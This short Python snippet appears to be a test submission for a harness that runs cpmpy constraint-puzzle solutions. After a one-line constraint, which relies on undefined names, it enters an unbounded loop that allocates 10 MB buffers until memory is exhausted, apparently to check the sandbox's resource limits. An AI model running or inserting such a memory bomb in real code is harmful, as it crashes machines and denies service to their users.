import cpmpy as cp
x = cp.intvar(0, 9)
with clue(1):
    model += x > 3
hoard = []
while True:
    hoard.append(bytearray(10_000_000))
answer = {"a": x}
